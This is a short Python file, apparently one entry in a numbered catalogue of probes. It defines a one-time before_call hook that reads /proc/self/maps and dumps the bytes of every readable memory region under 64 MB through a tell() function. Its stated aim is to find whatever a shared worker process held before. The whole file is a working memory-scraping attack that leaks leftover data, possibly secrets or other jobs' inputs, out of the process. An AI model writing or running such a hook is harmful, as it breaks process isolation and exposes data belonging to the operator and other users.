"""Catalogue: 8, 17. Slow. Searches its own memory, inherited from the worker, for what was there before."""
import ctypes

looked = []


def before_call(args, kwargs):
    if looked:
        return
    looked.append(True)
    with open("/proc/self/maps") as maps:
        areas = [line.split()[:2] for line in maps if "[v" not in line]
    for area, mode in areas:
        if mode[0] == "r":
            start, end = (int(number, 16) for number in area.split("-"))
            if end - start < 64 << 20:
                tell(ctypes.string_at(start, end - start))
